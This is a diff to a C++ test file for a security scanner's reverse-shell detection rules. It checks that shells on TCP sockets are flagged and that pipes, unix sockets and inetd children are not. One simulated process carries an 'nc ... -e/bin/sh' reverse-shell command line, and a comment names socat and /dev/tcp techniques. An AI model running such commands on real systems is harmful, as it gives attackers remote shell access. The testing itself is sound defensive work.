@@ -2,6 +2,8 @@
 // rule fires on the behaviour it is about, whatever the program is called,
 // and its near misses (ordinary workloads that look alike) stay quiet.
 #include <fcntl.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
@@ -350,6 +352,108 @@ TEST_CASE("default rules: reverse-shell near misses", "[default_rules][scanner][
     Scene under_ssh = exec_scene("/bin/bash", {"bash"});
     under_ssh.parent = {4300, 1, "sshd", "/usr/sbin/sshd", {"sshd: root@pts/0"}};
     CHECK(fired(under_ssh).empty());
+}
+
+// ---- reverse shells by their stdio ------------------------------------------
+
+namespace {
+
+using crowsnest::StdioFd;
+using crowsnest::StdioKind;
+
+StdioFd inet_socket(uint16_t family, uint16_t protocol, uint64_t ino) {
+    StdioFd fd;
+    fd.kind = StdioKind::Socket;
+    fd.family = family;
+    fd.protocol = protocol;
+    fd.ino = ino;
+    fd.local_port = 40000;
+    fd.remote_port = 4444;
+    fd.local_addr = {10, 0, 0, 2};
+    fd.remote_addr = {203, 0, 113, 9};
+    return fd;
+}
+
+StdioFd kind(StdioKind k, uint64_t ino = 9, uint16_t family = 0) {
+    StdioFd fd;
+    fd.kind = k;
+    fd.ino = ino;
+    fd.family = family;
+    return fd;
+}
+
+// An exec whose fds 0, 1, 2 are these.
+Scene with_stdio(Scene s, const StdioFd &in, const StdioFd &out, const StdioFd &err) {
+    s.event.has_stdio = true;
+    s.event.stdio = {in, out, err};
+    return s;
+}
+
+}  // namespace
+
+TEST_CASE("default rules: a shell or interpreter on a network socket, whatever started it",
+          "[default_rules][scanner][stdio]") {
+    const StdioFd tcp = inet_socket(AF_INET, IPPROTO_TCP, 5001), tty = kind(StdioKind::CharDevice);
+    // nc -e, socat exec:, bash's /dev/tcp: stdin and stdout the socket
+    CHECK(fired(with_stdio(exec_scene("/bin/sh", {"sh"}), tcp, tcp, tcp)) == Names{"reverse_shell_stdio_socket"});
+    CHECK(fired(with_stdio(exec_scene("/bin/bash", {"bash", "-i"}), tcp, tcp, tty)) ==
+          Names{"reverse_shell_stdio_socket"});
+    // only one of them, over UDP or IPv6; an interpreter; a busybox applet
+    const StdioFd udp6 = inet_socket(AF_INET6, IPPROTO_UDP, 5002);
+    CHECK(fires(with_stdio(exec_scene("/bin/dash", {"dash"}), kind(StdioKind::Pipe), udp6, udp6),
+                "reverse_shell_stdio_socket"));
+    CHECK(fires(with_stdio(exec_scene("/usr/bin/python3", {"python3"}), tcp, kind(StdioKind::Pipe), tty),
+                "reverse_shell_stdio_socket"));
+    CHECK(fires(with_stdio(exec_scene("/bin/busybox", {"ash"}), tcp, tcp, tcp), "reverse_shell_stdio_socket"));
+    // on the host too, and whoever the parent is: the shell comes before shell_spawned_by_network_tool
+    CHECK(fires(with_stdio(exec_scene("/bin/sh", {"sh"}), tcp, tcp, tcp).on_host(), "reverse_shell_stdio_socket"));
+    Scene from_nc = with_stdio(exec_scene("/bin/sh", {"sh"}), tcp, tcp, tcp);
+    from_nc.parent = {4300, 1, "nc", "/usr/bin/nc", {"nc", "1.2.3.4", "4444", "-e/bin/sh"}};
+    CHECK(fired(from_nc) == Names{"reverse_shell_stdio_socket"});
+    const auto ds = detect(with_stdio(exec_scene("/bin/sh", {"sh", "-i"}), tcp, tcp, tcp));
+    REQUIRE(ds.size() == 1);
+    CHECK(ds[0].output == "Shell with its input or output on a network socket: /bin/sh (sh -i), stdin ipv4 "
+                          "203.0.113.9:4444, stdout ipv4 203.0.113.9:4444, started by sh in container " +
+                              kContainerId);
+}
+
+TEST_CASE("default rules: a program of any name driven through one network socket",
+          "[default_rules][scanner][stdio]") {
+    const StdioFd tcp = inet_socket(AF_INET, IPPROTO_TCP, 5001);
+    // a copy of busybox called kworker, started as a shell by a relay
+    CHECK(fired(with_stdio(exec_scene("/tmp/kworker", {"kworker", "sh"}), tcp, tcp, tcp)) ==
+          Names{"drift_exec_from_writable_dir", "program_stdio_on_socket"});
+    CHECK(fired(with_stdio(exec_scene("/usr/local/bin/agent", {"agent"}), tcp, tcp, tcp)) ==
+          Names{"program_stdio_on_socket"});
+    // two different sockets, or one on the host: not this rule
+    CHECK(fired(with_stdio(exec_scene("/usr/local/bin/agent", {"agent"}), tcp, inet_socket(AF_INET, IPPROTO_TCP, 5009),
+                           tcp))
+              .empty());
+    CHECK(fired(with_stdio(exec_scene("/usr/sbin/sshd", {"sshd", "-i"}), tcp, tcp, tcp).on_host()).empty());
+}
+
+TEST_CASE("default rules: shells on unix sockets, pipes, terminals and files, and inetd's children, are no "
+          "reverse shells",
+          "[default_rules][scanner][stdio][near_miss]") {
+    const StdioFd unix_sock = kind(StdioKind::Socket, 7, AF_UNIX), pipe = kind(StdioKind::Pipe, 8),
+                  tty = kind(StdioKind::CharDevice, 3), file = kind(StdioKind::File, 4);
+    // docker exec and containerd shims hand a shell pipes or a terminal; systemd socket activation a unix socket
+    for (const auto &fd : {unix_sock, pipe, tty, file}) {
+        CHECK(fired(with_stdio(exec_scene("/bin/sh", {"sh", "-c", "date"}), fd, fd, fd)).empty());
+        CHECK(fired(with_stdio(exec_scene("/usr/local/bin/agent", {"agent"}), fd, fd, fd)).empty());
+    }
+    // a raw socket is no stream of commands
+    const StdioFd raw = inet_socket(AF_INET, IPPROTO_RAW, 6);
+    CHECK(fired(with_stdio(exec_scene("/bin/sh", {"sh"}), raw, raw, raw)).empty());
+    // a service script run per connection by an inetd-style server
+    const StdioFd tcp = inet_socket(AF_INET, IPPROTO_TCP, 5001);
+    for (const char *server : {"inetd", "tcpsvd"}) {
+        Scene service = with_stdio(exec_scene("/bin/sh", {"sh", "/srv/motd.sh"}), tcp, tcp, tcp);
+        service.parent = {4300, 1, server, std::string("/usr/sbin/") + server, {server}};
+        CHECK(fired(service).empty());
+    }
+    // a failed exec has no stdio
+    CHECK(fired(exec_scene("/bin/sh", {"sh"}, -2)).empty());
 }
 
 // ---- host files and escapes -------------------------------------------------
